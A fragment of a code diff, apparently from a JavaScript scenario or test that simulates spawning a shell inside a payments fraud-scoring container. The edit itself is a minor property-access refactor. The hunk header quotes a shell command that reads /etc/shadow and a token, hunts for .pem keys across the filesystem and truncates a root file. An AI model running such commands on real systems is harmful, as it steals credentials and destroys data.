@@ -21,7 +21,7 @@ sh -c "cat /etc/shadow; cat ${TOKEN}; find / -name *.pem; truncate -s 0 /root/.a
   tell({ world, scene }) {
     const pod = world.pod('prod-eu', 'payments', 'fraud-scoring', 0);
     const stage = scene(22);
-    const worker = stage.container(pod).workers['worker'];
+    const worker = stage.container(pod).workers.worker;
     if (!worker) throw new Error('gunicorn has no worker');
     const sh = stage.spawn(worker, [
       '/bin/sh',
